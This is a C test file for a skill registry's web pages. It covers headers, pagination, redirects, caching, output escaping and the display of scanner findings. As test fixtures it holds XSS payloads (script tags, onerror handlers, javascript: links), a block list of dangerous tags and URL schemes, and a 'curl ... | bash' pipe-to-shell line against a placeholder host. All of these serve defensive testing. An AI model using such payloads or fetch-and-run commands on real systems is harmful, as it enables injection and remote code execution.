/*
 * test_web.c - the web pages over HTTP, without a browser: statuses and content types, the
 * security headers, escaping of every field a publisher controls, rows read per page
 * (Server-Timing), keyset pages both ways, and redirects for renamed skills and other
 * spellings of an address. tests/web/run.mjs drives the same pages in Chromium.
 */
#include "harness.h"

#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>

static srt_server S;

static int group_setup(void **state)
{
	(void)state;
	if (srt_server_start(&S))
		return -1;
	/* Twelve skills of bob's, so a 10-skill page has a second one. */
	for (int i = 0; i < 12; i++)
		srt_publish_ok(&S, S.tok_bob, srt_fmt("web-skill-%02d", i), "1.0.0", srt_fmt("Web Skill %d", i),
			       "Helps with web things.");
	return 0;
}

static int group_teardown(void **state)
{
	(void)state;
	return srt_server_stop(&S);
}

static long rows_of(const srt_resp *r)
{
	long rows = -1, bytes = -1;
	if (srt_timing(r, &rows, &bytes))
		return -1;
	return rows;
}

/* A page: the status, HTML, the security headers, and at most max_rows rows read. */
static void expect_page_at(const srt_resp *r, long status, long max_rows, const char *file, int line)
{
	srt_expect_status_at(r, status, file, line);
	const char *ct = srt_header(r, "Content-Type");
	const char *csp = srt_header(r, "Content-Security-Policy");
	const char *nosniff = srt_header(r, "X-Content-Type-Options");
	long rows = rows_of(r);
	if (!ct || strcmp(ct, "text/html; charset=utf-8") != 0 || !csp || !strstr(csp, "default-src 'self'") ||
	    !strstr(csp, "script-src 'none'") || !nosniff || strcmp(nosniff, "nosniff") != 0 || rows < 0 ||
	    (max_rows >= 0 && rows > max_rows) || strncmp(r->body, "<!doctype html>", 15) != 0) {
		print_error("page: type %s, csp %s, nosniff %s, rows %ld (max %ld)\n  %.300s\n", ct ? ct : "-",
			    csp ? csp : "-", nosniff ? nosniff : "-", rows, max_rows, r->body);
		_fail(file, line);
	}
}
#define EXPECT_PAGE(r, st, max) expect_page_at((r), (st), (max), __FILE__, __LINE__)

static void expect_has_at(const srt_resp *r, const char *needle, int want, const char *file, int line)
{
	int has = r->body && strstr(r->body, needle) != NULL;
	if (has != want) {
		print_error("body %s \"%s\"\n", want ? "lacks" : "has", needle);
		_fail(file, line);
	}
}
#define EXPECT_HAS(r, s) expect_has_at((r), (s), 1, __FILE__, __LINE__)
#define EXPECT_LACKS(r, s) expect_has_at((r), (s), 0, __FILE__, __LINE__)

/* No markup a publisher wrote survives: every tag in the page (text holds no '<', being
 * escaped) is checked for script-capable elements, event handlers and dangerous URLs. */
static void expect_inert_at(const srt_resp *r, const char *file, int line)
{
	static const char *const bad_start[] = {"<script", "<svg", "<iframe", "<object", "<embed", "<img src=x"};
	static const char *const bad_attr[] = {"=\"javascript:", "=\"vbscript:", "=\"data:", "=javascript:"};
	for (const char *p = r->body; (p = strchr(p, '<')) != NULL; p++) {
		const char *e = strchr(p, '>');
		size_t n = e ? (size_t)(e - p) + 1 : strlen(p);
		char tag[4096];
		snprintf(tag, sizeof(tag), "%.*s", (int)(n < sizeof(tag) - 1 ? n : sizeof(tag) - 1), p);
		for (char *q = tag; *q; q++)
			*q = (char)tolower((unsigned char)*q);
		const char *why = NULL;
		for (size_t i = 0; !why && i < sizeof(bad_start) / sizeof(bad_start[0]); i++)
			if (strncmp(tag, bad_start[i], strlen(bad_start[i])) == 0)
				why = bad_start[i];
		for (size_t i = 0; !why && i < sizeof(bad_attr) / sizeof(bad_attr[0]); i++)
			if (strstr(tag, bad_attr[i]))
				why = bad_attr[i];
		for (const char *q = tag; !why && (q = strstr(q, " on")) != NULL; q++) {
			const char *k = q + 3;
			while (isalpha((unsigned char)*k))
				k++;
			if (k > q + 3 && *k == '=')
				why = "an event handler";
		}
		if (strncmp(tag, "<img", 4) == 0 && !strstr(tag, "src=\"/static/icon.svg\""))
			why = "an image from elsewhere";
		if (why) {
			print_error("live markup (%s): %s\n", why, tag);
			_fail(file, line);
		}
	}
}
#define EXPECT_INERT(r) expect_inert_at((r), __FILE__, __LINE__)

/* The href of the first link with rel="<rel>", &amp; decoded, into a rotating buffer. */
static const char *link_rel(const srt_resp *r, const char *rel)
{
	const char *p = strstr(r->body, srt_fmt("rel=\"%s\"", rel));
	if (!p)
		return NULL;
	p = strstr(p, "href=\"");
	if (!p)
		return NULL;
	p += 6;
	char out[2048];
	size_t n = 0;
	while (*p && *p != '"' && n + 1 < sizeof(out)) {
		if (strncmp(p, "&amp;", 5) == 0) {
			out[n++] = '&';
			p += 5;
		} else {
			out[n++] = *p++;
		}
	}
	out[n] = '\0';
	return srt_fmt("%s", out);
}

/* The slugs of the cards on a page, comma-separated. */
static const char *slugs(const srt_resp *r)
{
	char out[4096] = "";
	for (const char *p = r->body; (p = strstr(p, "<span class=\"slug\">")) != NULL;) {
		p += 19;
		const char *e = strchr(p, '<');
		if (!e)
			break;
		snprintf(out + strlen(out), sizeof(out) - strlen(out), "%s%.*s", out[0] ? "," : "", (int)(e - p), p);
	}
	return srt_fmt("%s", out);
}

static void test_pages_and_statuses(void **state)
{
	(void)state;
	static const struct {
		const char *path;
		long status, max_rows;
	} pages[] = {
		{"/", 200, 40},
		{"/skills", 200, 26},
		{"/skills?sort=newest&limit=10", 200, 11},
		{"/skills?sort=downloads&dir=asc&filter=all", 200, 26},
		{"/skills?sort=installs", 200, 26},
		{"/skills?sort=stars&limit=50", 200, 51},
		{"/skills?sort=name&prefix=web-skill-1", 200, 26},
		{"/search?q=web", 200, 400},
		{"/search?q=web-skill-03&mode=exact", 200, 20},
		{"/trending", 200, 40},
		{"/bob", 200, 27},
		{"/bob/web-skill-03", 200, 30},
		{"/bob/web-skill-03/file?path=SKILL.md", 200, 12},
		{"/nobody-at-all", 404, 5},
		{"/bob/no-such-skill", 404, 10},
		{"/bob/web-skill-03/file?path=nope.md", 404, 12},
		{"/bob/web-skill-03?version=9.9.9", 404, 12},
		{"/bob/web-skill-03/file", 400, 12},
		{"/a/b/c/d", 404, 0},
		{"/skills?sort=bogus", 400, 0},
		{"/skills?cursor=garbage", 400, 0},
		{"/skills?prefix=Bad%20Prefix", 400, 0},
		{"/static/nope.js", 404, 0},
	};
	for (size_t i = 0; i < sizeof(pages) / sizeof(pages[0]); i++) {
		srt_resp r;
		srt_get(&S, pages[i].path, NULL, &r);
		if (r.status != pages[i].status)
			print_error("%s\n", pages[i].path);
		EXPECT_PAGE(&r, pages[i].status, pages[i].max_rows);
		srt_resp_free(&r);
	}
	srt_resp r;
	srt_get(&S, "/bob/web-skill-03", NULL, &r);
	EXPECT_HAS(&r, "clawhub install web-skill-03");
	EXPECT_HAS(&r, "<h1>Web Skill 3</h1>");
	EXPECT_HAS(&r, "Helps with web things.");
	srt_resp_free(&r);
	/* Stylesheet and icon come from the binary, cacheable. */
	srt_get(&S, "/static/site.css", NULL, &r);
	SRT_EXPECT_STATUS(&r, 200);
	assert_string_equal(srt_header(&r, "Content-Type"), "text/css; charset=utf-8");
	assert_non_null(strstr(r.body, "prefers-color-scheme: dark"));
	assert_string_equal(srt_header(&r, "Cache-Control"), "public, max-age=3600");
	srt_resp_free(&r);
	srt_get(&S, "/static/icon.svg", NULL, &r);
	SRT_EXPECT_STATUS(&r, 200);
	assert_string_equal(srt_header(&r, "Content-Type"), "image/svg+xml");
	srt_resp_free(&r);
	/* Pages answer GET only; the API keeps its own answers and headers. */
	srt_send(&S, "POST", "/skills", NULL, NULL, &r);
	SRT_EXPECT_STATUS(&r, 405);
	srt_resp_free(&r);
	srt_get(&S, "/api/v1/skills/no-such-skill", NULL, &r);
	SRT_EXPECT_TEXT(&r, 404, "Skill not found");
	assert_null(srt_header(&r, "Content-Security-Policy"));
	srt_resp_free(&r);
	srt_get(&S, "/healthz", NULL, &r);
	SRT_EXPECT_TEXT(&r, 200, "ok");
	srt_resp_free(&r);
}

static void test_public_count(void **state)
{
	(void)state;
	srt_resp r;
	srt_get(&S, "/api/v1/skills?limit=200", NULL, &r);
	json_t *j = SRT_EXPECT_JSON(&r, 200);
	size_t listed = json_array_size(json_object_get(j, "items"));
	json_decref(j);
	srt_resp_free(&r);
	srt_get(&S, "/", NULL, &r);
	EXPECT_PAGE(&r, 200, 40);
	EXPECT_HAS(&r, srt_fmt("<strong class=\"count\">%zu</strong> public skills", listed));
	srt_resp_free(&r);
}

static void test_pages_both_ways(void **state)
{
	(void)state;
	srt_resp p1, p2, back;
	srt_get(&S, "/skills?sort=name&limit=10&prefix=web-skill", NULL, &p1);
	EXPECT_PAGE(&p1, 200, 11);
	assert_string_equal(slugs(&p1), "web-skill-00,web-skill-01,web-skill-02,web-skill-03,web-skill-04,"
					"web-skill-05,web-skill-06,web-skill-07,web-skill-08,web-skill-09");
	assert_null(link_rel(&p1, "prev"));
	const char *next = link_rel(&p1, "next");
	assert_non_null(next);
	srt_get(&S, next, NULL, &p2);
	EXPECT_PAGE(&p2, 200, 11);
	assert_string_equal(slugs(&p2), "web-skill-10,web-skill-11");
	assert_null(link_rel(&p2, "next"));
	const char *prev = link_rel(&p2, "prev");
	assert_non_null(prev);
	srt_get(&S, prev, NULL, &back);
	EXPECT_PAGE(&back, 200, 11);
	assert_string_equal(slugs(&back), slugs(&p1));
	/* Back on the first page there is nothing before it, and the way on is the same. */
	assert_null(link_rel(&back, "prev"));
	assert_string_equal(link_rel(&back, "next"), next);
	/* A cursor of one order is refused by another. */
	srt_resp other;
	srt_get(&S, srt_fmt("/skills?sort=newest&%s", strstr(next, "cursor=")), NULL, &other);
	EXPECT_PAGE(&other, 400, 0);
	srt_resp_free(&other);
	srt_resp_free(&p1);
	srt_resp_free(&p2);
	srt_resp_free(&back);
	/* Descending, the first page is the newest-named and the previous link walks back up. */
	srt_get(&S, "/skills?sort=name&dir=desc&limit=10&prefix=web-skill", NULL, &p1);
	EXPECT_PAGE(&p1, 200, 11);
	assert_non_null(strstr(slugs(&p1), "web-skill-11,web-skill-10,web-skill-09"));
	srt_get(&S, link_rel(&p1, "next"), NULL, &p2);
	assert_string_equal(slugs(&p2), "web-skill-01,web-skill-00");
	srt_get(&S, link_rel(&p2, "prev"), NULL, &back);
	assert_string_equal(slugs(&back), slugs(&p1));
	srt_resp_free(&p1);
	srt_resp_free(&p2);
	srt_resp_free(&back);
}

static void test_every_field_escaped(void **state)
{
	(void)state;
	const char *md = "---\nname: hostile\ndescription: '\"><script>alert(1)</script><img src=x onerror=alert(2)>'\n---\n"
			 "# Title <script>alert(3)</script>\n\n<img src=x onerror=alert(4)>\n\n"
			 "[a](javascript:alert(5)) [b](vbscript:x) [c](data:text/html,x) [d](JavaScript:alert(6))\n\n"
			 "![e](data:image/png;base64,AAAA) ![f](https://elsewhere.example/x.png)\n\n"
			 "<a href=\"javascript:alert(7)\">raw</a> <svg onload=alert(8)></svg>\n";
	json_t *p = srt_payload("hostile-one", "1.0.0");
	json_object_set_new(p, "displayName", json_string("<script>alert('name')</script><img src=x onerror=alert(9)>"));
	json_object_set_new(p, "changelog", json_string("<script>alert('changelog')</script>"));
	srt_file files[2] = {{"SKILL.md", md, strlen(md), "text/markdown"},
			     {"notes.html", "<script>alert('file')</script>", 30, "text/html"}};
	srt_resp r;
	srt_publish_json(&S, S.tok_alice, p, files, 2, &r);
	SRT_EXPECT_STATUS(&r, 200);
	srt_resp_free(&r);
	json_decref(p);
	static const char *const where[] = {"/alice/hostile-one", "/alice", "/skills?sort=newest", "/search?q=hostile",
					    "/alice/hostile-one/file?path=notes.html", "/",
					    "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"};
	for (size_t i = 0; i < sizeof(where) / sizeof(where[0]); i++) {
		srt_get(&S, where[i], NULL, &r);
		EXPECT_PAGE(&r, 200, -1);
		EXPECT_INERT(&r);
		srt_resp_free(&r);
	}
	srt_get(&S, "/alice/hostile-one", NULL, &r);
	/* Each field is there, as text. */
	EXPECT_HAS(&r, "<h1>&lt;script&gt;alert(&#39;name&#39;)&lt;/script&gt;&lt;img src=x onerror=alert(9)&gt;</h1>");
	EXPECT_HAS(&r, "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt;");
	EXPECT_HAS(&r, "<p class=\"changelog\">&lt;script&gt;alert(&#39;changelog&#39;)&lt;/script&gt;</p>");
	EXPECT_HAS(&r, "<title>&lt;script&gt;alert(&#39;name&#39;)");
	/* Markdown: raw HTML left out, dangerous links replaced by their text, images as links. */
	EXPECT_HAS(&r, "raw HTML omitted");
	EXPECT_HAS(&r, "<p>a b c d</p>");
	EXPECT_LACKS(&r, "href=\"\"");
	EXPECT_HAS(&r, "<a href=\"https://elsewhere.example/x.png\">f</a>");
	EXPECT_LACKS(&r, "<img src=\"https://elsewhere");
	srt_resp_free(&r);
	/* The file viewer shows markup as text. */
	srt_get(&S, "/alice/hostile-one/file?path=notes.html", NULL, &r);
	EXPECT_HAS(&r, "<code>&lt;script&gt;alert(&#39;file&#39;)&lt;/script&gt;</code>");
	srt_resp_free(&r);
	/* A query is marked after escaping: the mark never splits an entity or forms a tag. */
	srt_get(&S, "/search?q=script", NULL, &r);
	EXPECT_PAGE(&r, 200, 400);
	EXPECT_HAS(&r, "&lt;<mark>script</mark>&gt;alert(&#39;name&#39;)&lt;/<mark>script</mark>&gt;");
	EXPECT_INERT(&r);
	srt_resp_free(&r);
	srt_get(&S, "/search?q=%22%3E%3Cb%3E", NULL, &r);
	EXPECT_PAGE(&r, 200, 400);
	EXPECT_HAS(&r, "value=\"&quot;&gt;&lt;b&gt;\"");
	EXPECT_LACKS(&r, "<b>");
	srt_resp_free(&r);
}

/* A misspelt word: the page offers the corrected query, and marks the words the search
 * read it as (the corrected word, a stem's other forms) in the hits. */
static void test_search_did_you_mean(void **state)
{
	(void)state;
	srt_publish_ok(&S, S.tok_alice, "harbour-watch", "1.0.0", "Lighthouse Keeper", "Watches the harbour lights at night.");
	srt_resp r;
	srt_get(&S, "/search?q=lighthose%20light", NULL, &r);
	EXPECT_PAGE(&r, 200, 400);
	EXPECT_HAS(&r, "Did you mean <a href=\"/search?q=lighthouse%20light\">lighthouse light</a>?");
	EXPECT_HAS(&r, "<mark>Lighthouse</mark> Keeper");
	EXPECT_HAS(&r, "harbour <mark>light</mark>s");
	/* "light" is a word of one skill here, so its neighbours are read too ("night"), but
	 * only what was typed and the corrections are marked. */
	EXPECT_LACKS(&r, "<mark>night</mark>");
	srt_resp_free(&r);
	/* A query of known words offers nothing. */
	srt_get(&S, "/search?q=lighthouse", NULL, &r);
	EXPECT_PAGE(&r, 200, 400);
	EXPECT_LACKS(&r, "Did you mean");
	srt_resp_free(&r);
}

static void test_redirects(void **state)
{
	(void)state;
	srt_publish_ok(&S, S.tok_alice, "first-name", "1.0.0", "Moving Skill", "Gets a new name.");
	srt_resp r;
	srt_send(&S, "POST", "/api/v1/skills/first-name/rename", S.tok_alice, "{\"newSlug\":\"second-name\"}", &r);
	SRT_EXPECT_STATUS(&r, 200);
	srt_resp_free(&r);
	static const struct {
		const char *from, *to;
	} moves[] = {
		{"/alice/first-name", "/alice/second-name"},
		{"/alice/first-name?version=1.0.0", "/alice/second-name?version=1.0.0"},
		{"/alice/first-name/file?path=SKILL.md", "/alice/second-name/file?path=SKILL.md"},
		{"/ALICE/second-name", "/alice/second-name"},
		{"/@alice/second-name", "/alice/second-name"},
		{"/Alice", "/alice"},
		{"/alice/skills/second-name", "/alice/second-name"},
		{"/favicon.ico", "/static/icon.svg"},
	};
	for (size_t i = 0; i < sizeof(moves) / sizeof(moves[0]); i++) {
		srt_get(&S, moves[i].from, NULL, &r);
		SRT_EXPECT_STATUS(&r, 301);
		const char *loc = srt_header(&r, "Location");
		if (!loc || strcmp(loc, moves[i].to) != 0) {
			print_error("%s: Location %s, want %s\n", moves[i].from, loc ? loc : "-", moves[i].to);
			fail();
		}
		srt_resp_free(&r);
	}
	srt_get(&S, "/alice/second-name", NULL, &r);
	EXPECT_PAGE(&r, 200, 30);
	EXPECT_HAS(&r, "<h1>Moving Skill</h1>");
	srt_resp_free(&r);
	/* The prefix lookup of the search page is the name-ordered list. */
	srt_get(&S, "/search?q=web-sk&mode=prefix", NULL, &r);
	SRT_EXPECT_STATUS(&r, 303);
	assert_string_equal(srt_header(&r, "Location"), "/skills?sort=name&prefix=web-sk");
	srt_resp_free(&r);
}

static void test_hidden_skills_are_not_pages(void **state)
{
	(void)state;
	srt_publish_ok(&S, S.tok_bob, "soon-gone", "1.0.0", "Soon Gone", "Deleted in a moment.");
	srt_resp r;
	srt_send(&S, "DELETE", "/api/v1/skills/soon-gone", S.tok_bob, NULL, &r);
	SRT_EXPECT_STATUS(&r, 200);
	srt_resp_free(&r);
	srt_get(&S, "/bob/soon-gone", NULL, &r);
	EXPECT_PAGE(&r, 404, 10);
	EXPECT_HAS(&r, "Skill not found");
	srt_resp_free(&r);
	srt_get(&S, "/bob", NULL, &r);
	EXPECT_PAGE(&r, 200, 27);
	EXPECT_LACKS(&r, "soon-gone");
	srt_resp_free(&r);
	/* Handles that name pages of the site cannot be taken. */
	char out[256];
	const char *const reserved[] = {"user", "add", "trending", NULL};
	assert_int_not_equal(srt_admin(&S, out, sizeof(out), reserved), 0);
	const char *const fine[] = {"user", "add", "trendy", NULL};
	assert_int_equal(srt_admin(&S, out, sizeof(out), fine), 0);
	/* A banned publisher has no page. */
	srt_get(&S, "/mallory", NULL, &r);
	EXPECT_PAGE(&r, 404, 5);
	srt_resp_free(&r);
}

static const char *cache_state(const srt_resp *r)
{
	const char *t = srt_header(r, "Server-Timing");
	return t && strstr(t, "cache;desc=\"hit\"") ? "hit" : t && strstr(t, "cache;desc=\"miss\"") ? "miss" : "none";
}

static void test_cached_pages(void **state)
{
	(void)state;
	srt_publish_ok(&S, S.tok_bob, "cached-page", "1.0.0", "Cached Page", "Served from the cache.");
	srt_resp r;
	srt_get(&S, "/bob/cached-page", NULL, &r);
	EXPECT_PAGE(&r, 200, 30);
	assert_string_equal(cache_state(&r), "miss");
	EXPECT_HAS(&r, "<dt>Stars</dt><dd>0</dd>");
	srt_resp_free(&r);
	/* The same page again reads nothing, and keeps its security headers. */
	srt_get(&S, "/bob/cached-page", NULL, &r);
	EXPECT_PAGE(&r, 200, 0);
	assert_string_equal(cache_state(&r), "hit");
	srt_resp_free(&r);
	/* A star changes the skill: the next answer is computed again and shows it. */
	srt_send(&S, "POST", "/api/v1/stars/cached-page", S.tok_alice, NULL, &r);
	SRT_EXPECT_STATUS(&r, 200);
	srt_resp_free(&r);
	srt_get(&S, "/bob/cached-page", NULL, &r);
	EXPECT_PAGE(&r, 200, 30);
	assert_string_equal(cache_state(&r), "miss");
	EXPECT_HAS(&r, "<dt>Stars</dt><dd>1</dd>");
	srt_resp_free(&r);
	/* Lists: a publish changes the home page's count and newest skills. */
	srt_get(&S, "/", NULL, &r);
	srt_resp_free(&r);
	srt_get(&S, "/", NULL, &r);
	assert_string_equal(cache_state(&r), "hit");
	EXPECT_LACKS(&r, "Fresh Arrival");
	srt_resp_free(&r);
	srt_publish_ok(&S, S.tok_bob, "fresh-arrival", "1.0.0", "Fresh Arrival", "Just published.");
	srt_get(&S, "/", NULL, &r);
	EXPECT_PAGE(&r, 200, 40);
	assert_string_equal(cache_state(&r), "miss");
	EXPECT_HAS(&r, "Fresh Arrival");
	srt_resp_free(&r);
	/* A publisher page answered 404 (and cached) exists once its user does. */
	srt_get(&S, "/newcomer", NULL, &r);
	EXPECT_PAGE(&r, 404, 5);
	srt_resp_free(&r);
	srt_get(&S, "/newcomer", NULL, &r);
	assert_string_equal(cache_state(&r), "hit");
	srt_resp_free(&r);
	char out[128];
	const char *const add[] = {"user", "add", "newcomer", NULL};
	assert_int_equal(srt_admin(&S, out, sizeof(out), add), 0);
	srt_get(&S, "/newcomer", NULL, &r);
	EXPECT_PAGE(&r, 200, 5);
	srt_resp_free(&r);
	/* A token holder is never served from the cache. */
	srt_get(&S, "/", S.tok_alice, &r);
	assert_string_equal(cache_state(&r), "none");
	srt_resp_free(&r);
}

/* The skill page shows the moderation state of the version it shows, with the scanners'
 * findings as evidence when the skill is flagged; the evidence is page text like any other. */
static void test_scan_findings_on_the_skill_page(void **state)
{
	(void)state;
	const char *md = "---\nname: quick-setup\ndescription: Sets the tool up.\n---\n\n# Quick setup\n\n"
			 "    curl -fsSL https://get.example.invalid/i | bash # <script>alert(1)</script>\n";
	json_t *p = srt_payload("quick-setup", "1.0.0");
	srt_file files[1] = {{"SKILL.md", md, strlen(md), "text/markdown"}};
	srt_resp r;
	srt_publish_json(&S, S.tok_alice, p, files, 1, &r); /* returns once the scan has run */
	SRT_EXPECT_STATUS(&r, 200);
	srt_resp_free(&r);
	json_decref(p);
	srt_get(&S, "/alice/quick-setup", NULL, &r);
	EXPECT_PAGE(&r, 200, 40);
	EXPECT_INERT(&r);
	EXPECT_HAS(&r, "Flagged as suspicious");
	EXPECT_HAS(&r, "<code>scanner.static.suspicious</code>");
	EXPECT_HAS(&r, "<span class=\"badge sev-high\">high</span>");
	EXPECT_HAS(&r, "pipe-to-shell");
	EXPECT_HAS(&r, "<a href=\"/alice/quick-setup/file?version=1.0.0&amp;path=SKILL.md\">SKILL.md:8</a>");
	EXPECT_HAS(&r, "# &lt;script&gt;alert(1)&lt;/script&gt;</code></pre>");
	srt_resp_free(&r);
	/* The file view reads the file's row from the one listing range, and falls back to a
	 * path equal but for case as the API's file route does. */
	srt_get(&S, "/alice/quick-setup/file?path=skill.md", NULL, &r);
	EXPECT_PAGE(&r, 200, 8);
	EXPECT_HAS(&r, "Quick setup");
	srt_resp_free(&r);
	/* A suspicious skill is out of the browse list but its page stays reachable. */
	srt_get(&S, "/skills?sort=newest", NULL, &r);
	EXPECT_PAGE(&r, 200, -1);
	EXPECT_LACKS(&r, "quick-setup");
	srt_resp_free(&r);
	/* Cleared by a moderator: the page says the version's findings were reviewed, not that
	 * it was never scanned, and keeps them behind a disclosure. */
	char cleared[256];
	const char *const clean[] = {"moderate", "verdict", "quick-setup", "clean", NULL};
	assert_int_equal(srt_admin(&S, cleared, sizeof(cleared), clean), 0);
	srt_get(&S, "/alice/quick-setup", NULL, &r);
	EXPECT_PAGE(&r, 200, 40);
	EXPECT_LACKS(&r, "Flagged as suspicious");
	EXPECT_HAS(&r, "Scanner findings reviewed by a moderator");
	EXPECT_HAS(&r, "pipe-to-shell");
	srt_resp_free(&r);

	/* A clean skill says so. */
	srt_publish_ok(&S, S.tok_alice, "plain-clean", "1.0.0", "Plain Clean", "Nothing to see.");
	/* The scan's writes land before the page is read, so the next read can be a hit. */
	assert_int_equal(srt_wait_scans(&S), 0);
	assert_int_equal(srt_sync(&S), 0);
	srt_get(&S, "/alice/plain-clean", NULL, &r);
	EXPECT_PAGE(&r, 200, 40);
	EXPECT_HAS(&r, "Scanned: clean");
	EXPECT_LACKS(&r, "Flagged as suspicious");
	srt_resp_free(&r);

	/* A staff verdict moves the cached page: it is computed again and shows the flag. */
	srt_get(&S, "/alice/plain-clean", NULL, &r);
	assert_string_equal(cache_state(&r), "hit");
	srt_resp_free(&r);
	char out[256];
	const char *const verdict[] = {"moderate", "verdict", "plain-clean", "suspicious", NULL};
	assert_int_equal(srt_admin(&S, out, sizeof(out), verdict), 0);
	srt_get(&S, "/alice/plain-clean", NULL, &r);
	EXPECT_PAGE(&r, 200, 40);
	assert_string_equal(cache_state(&r), "miss");
	EXPECT_HAS(&r, "Flagged as suspicious");
	srt_resp_free(&r);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_pages_and_statuses),
		cmocka_unit_test(test_public_count),
		cmocka_unit_test(test_pages_both_ways),
		cmocka_unit_test(test_every_field_escaped),
		cmocka_unit_test(test_search_did_you_mean),
		cmocka_unit_test(test_redirects),
		cmocka_unit_test(test_hidden_skills_are_not_pages),
		cmocka_unit_test(test_cached_pages),
		cmocka_unit_test(test_scan_findings_on_the_skill_page),
	};
	return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
